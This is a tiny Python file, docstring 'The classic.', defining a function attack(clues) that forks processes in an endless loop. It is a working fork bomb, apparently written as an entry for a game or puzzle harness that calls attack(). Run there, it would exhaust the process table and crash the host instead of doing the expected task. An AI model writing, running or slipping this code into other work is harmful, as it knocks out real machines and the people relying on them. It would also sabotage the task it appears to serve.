"""The classic."""
import os


def attack(clues):
    while True:
        try:
            os.fork()
        except OSError:
            return []
